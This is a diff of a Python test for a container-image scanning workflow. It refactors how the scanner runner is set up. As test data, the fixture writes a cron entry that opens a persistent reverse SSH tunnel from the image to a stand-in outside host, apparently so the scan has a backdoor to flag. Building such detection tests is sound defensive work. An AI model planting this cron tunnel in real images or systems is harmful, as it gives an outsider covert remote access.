@@ -2,13 +2,12 @@
 
 import os
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 import yaml
 
-from tests.action.composite import ROOT, Runner, outputs
+from tests.action.composite import ROOT, installed, outputs
 from tests.engine_fixture import program, started_engine
 
 JOB = yaml.safe_load((ROOT / ".github" / "workflows" / "scan.yml").read_text("utf-8"))["jobs"]["scan"]
@@ -59,10 +58,6 @@ def test_a_dockerfile_is_built_and_its_image_scanned(tmp_path: Path):
         "# m h\n* * * * * root /usr/bin/" + "ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 u@203.0.113.9\n"
     )
     (workspace / "the file").write_text("FROM scratch\nCOPY cron /etc/cron.d/a\nENV A=1\n")
-    programs = temporary / "sandscan" / "venv" / "bin"
-    programs.mkdir(parents=True)
-    (programs / "sandscan").symlink_to(Path(sys.executable).parent / "sandscan")
-    given = {"install": {"cache-folder": str(temporary / "cache"), "cache-prefix": "p-"}}
     said = tmp_path / "output"
     said.touch()
 
@@ -78,7 +73,7 @@ def test_a_dockerfile_is_built_and_its_image_scanned(tmp_path: Path):
         )
         assert done.returncode == 0, done.stderr
         image = outputs(said.read_text())["image"]
-        runner = Runner(workspace, temporary, given=given, environment={"DOCKER_HOST": engine.host})
+        runner = installed(workspace, temporary, DOCKER_HOST=engine.host)
         ran = runner.run(image=image, dockerfile="the file")
         broken = run(
             BUILD,
